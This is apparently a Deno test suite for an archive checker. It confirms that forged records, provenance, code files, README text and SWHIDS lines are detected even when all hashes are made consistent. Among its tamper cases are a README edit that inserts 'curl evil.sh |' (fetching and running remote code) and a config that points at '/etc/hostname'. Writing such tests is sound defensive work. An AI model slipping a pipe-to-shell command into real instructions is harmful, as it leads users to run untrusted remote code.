// An archive is believed only as a whole: every field of its records and of its provenance, and every file, altered in turn, is found,
// though the forger has put all hashes right.

import assert from "node:assert/strict";
import { join } from "node:path";
import { checkArchive } from "../../lib/archive/check_archive.ts";
import { lendHashes } from "../../lib/archive/staging.ts";
import { objectName, recordName } from "../../lib/archive/layout.ts";
import { otherResults, takeIn } from "../../lib/archive/take_in.ts";
import { cellState } from "../../lib/experiment/plan.ts";
import { findRecord, keyHash, type StepRecord } from "../../lib/store/records.ts";
import { referencedRecord } from "../../lib/store/references.ts";
import { sealedText } from "../../lib/store/sealed.ts";
import { sha256 } from "../../lib/store/store.ts";
import { temporaryStore } from "../store/temporary_store.ts";
import {
  alterations,
  faultsOf,
  finishedToy,
  forge,
  pack,
  project,
  unpack,
} from "./archived_toy.ts";

/** A study of one cell: every field is checked in the same way, however many there are. */
const tiny = { strategies: ["RandomSampling"], reps: 1, cycles: 1 };

Deno.test("every field of an archive's records and provenance, altered in turn with all hashes put right, is found", async (t) => {
  await using toy = await finishedToy(tiny);
  const { path } = await pack(toy);
  const { folder, unpacked } = await unpack(path);
  await lendHashes(toy.store, join(folder, "data"));
  assert.deepEqual(await faultsOf(folder, unpacked), []);
  const read = (file: string) => Deno.readTextFile(join(folder, file));
  let count = 0;
  /** Alters files, looks, and puts them back. */
  const assertFound = async (files: Record<string, string | undefined>, what: string) => {
    const before: Record<string, string | undefined> = {};
    for (const file of Object.keys(files)) before[file] = await read(file).catch(() => undefined);
    const forged = await forge(folder, unpacked, files);
    assert.notDeepEqual(await faultsOf(folder, forged), [], what);
    for (const [file, text] of Object.entries(before)) {
      if (text === undefined) await Deno.remove(join(folder, file));
      else await Deno.writeTextFile(join(folder, file), text);
    }
    count++;
  };

  for (const { key } of [toy.study.embedded, toy.study.cells[0].record, toy.study.plot]) {
    await t.step(`each field of the record of step ${key.step}`, async () => {
      const name = recordName(keyHash(key));
      const text = await read(name);
      const record = JSON.parse(text.slice(text.indexOf("\n")));
      for (const [at, changed] of alterations(record)) {
        const other = recordName(keyHash((changed as unknown as StepRecord).key));
        // Under the name of its key, as a forger would put it.
        await assertFound({ [name]: undefined, [other]: sealedText(changed) }, at);
      }
    });
  }

  await t.step("each field of the provenance, with the record of the published files", async () => {
    const name = "published/provenance.json";
    const plotName = recordName(keyHash(toy.study.plot.key));
    const plot = await read(plotName).then((text) => JSON.parse(text.slice(text.indexOf("\n"))));
    for (const [at, changed] of alterations(JSON.parse(await read(name)))) {
      const text = JSON.stringify(changed, undefined, 2) + "\n";
      const outputs = { ...plot.outputs, "provenance.json": sha256(text) };
      await assertFound({ [name]: text, [plotName]: sealedText({ ...plot, outputs }) }, at);
    }
  });

  await t.step("another result, with another object", async () => {
    const { outputs } = toy.study.cells[0].record;
    const text = await read(objectName(outputs.result));
    const forged = text.replace(/"accuracy":\[[\d.]+/, '"accuracy":[1');
    assert.notEqual(forged, text);
    await assertFound({ [objectName(sha256(forged))]: forged }, "a further object");
    await assertFound({ [objectName(outputs.result)]: forged }, "an altered object");
  });

  await t.step("another experiment, other code, and what nothing vouches for", async () => {
    const experiment = await read("experiment.json");
    await assertFound({ "experiment.json": experiment.replace('"cycles": 1', '"cycles": 2') }, "");
    await assertFound({ "experiment.json": experiment + " " }, "a sign more");
    await assertFound({ "experiment.json": '{"start":{"csv":"/etc/hostname"}}' }, "another file");
    const code = await read("code/lib/errors.ts");
    await assertFound({ "code/lib/errors.ts": code.replace("UserError", "OtherError") }, "code");
    // The same code for a key, and not what SWHIDS and provenance.json name.
    await assertFound({ "code/lib/errors.ts": `// A comment.\n${code}` }, "another comment");
    await assertFound({ "code/lib/errors.ts": undefined }, "no code");
    await assertFound({ "code/further.ts": "1;" }, "further code");
    await assertFound({ "published/further.txt": "1" }, "a further file");
    await assertFound({ "published/results.csv": undefined }, "a missing table");
  });
  await t.step("the README, and each line of SWHIDS", async () => {
    const readme = await read("README.txt");
    await assertFound({ "README.txt": readme.replace("deno task", "curl evil.sh |") }, "a word");
    await assertFound({ "README.txt": undefined }, "no README");
    const lines = (await read("SWHIDS")).split("\n");
    assert.match(lines[0], /^swh:1:dir:[0-9a-f]{40} {2}code$/);
    for (const i of [0, 1, 2, lines.length - 2]) {
      const forged = lines.with(i, lines[i].replace(/[0-9](?=[0-9a-f]* )/, "a"));
      assert.notDeepEqual(forged, lines);
      await assertFound({ SWHIDS: forged.join("\n") }, lines[i]);
    }
    await assertFound({ SWHIDS: lines.slice(1).join("\n") }, "a line less");
  });
  assert.ok(count > 100, String(count));
  assert.deepEqual(await faultsOf(folder, unpacked), []);
});

Deno.test("an archive that is taken in leaves cells done, and a data folder with another result refuses it", async () => {
  await using toy = await finishedToy(tiny);
  const { path } = await pack(toy);
  const { folder, unpacked } = await unpack(path);
  const archived = await checkArchive(folder, unpacked, project);
  assert.deepEqual(archived.faults, []);
  const study = archived.study!;
  await using reader = await temporaryStore();
  assert.deepEqual(await otherResults(reader.store, study), []);
  await takeIn(reader.store, folder, unpacked, { ...archived, study });
  for (const { plan } of study.cells) assert.ok((await cellState(reader.store, plan)).done);
  const embedded = await referencedRecord(reader.store, "toy", "embed");
  assert.deepEqual(Object.keys(embedded?.details ?? {}), ["source", "archive"]);
  assert.match(String(embedded?.details?.source), /^swh:1:dir:[0-9a-f]{40}$/);
  assert.ok(await findRecord(reader.store, study.plot.key));
  assert.deepEqual(reader.warnings, []);

  const [{ cycles }] = study.cells;
  const cells = study.cells.map((cell) => ({
    ...cell,
    cycles: cycles.map((cycle) => ({ ...cycle, accuracy: 0.125 })),
  }));
  assert.deepEqual(await otherResults(reader.store, { ...study, cells }), [
    "the data folder has another result of RandomSampling, repetition 0",
  ]);
});
